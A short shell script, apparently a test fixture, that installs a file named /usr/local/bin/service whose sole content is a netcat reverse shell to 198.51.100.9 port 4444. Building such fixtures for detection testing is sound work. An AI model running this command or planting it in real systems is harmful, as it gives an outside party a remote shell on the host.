#!/bin/sh
# Fixture reverse-shell: The service hands a shell to a remote listener with nc, which is a suspicious tool too.
set -e
mkdir -p /usr/local/bin
cat > /usr/local/bin/service <<'SERVICE'
#!/bin/sh
nc 198.51.100.9 4444 -e /bin/sh || true
SERVICE
chmod 755 /usr/local/bin/service
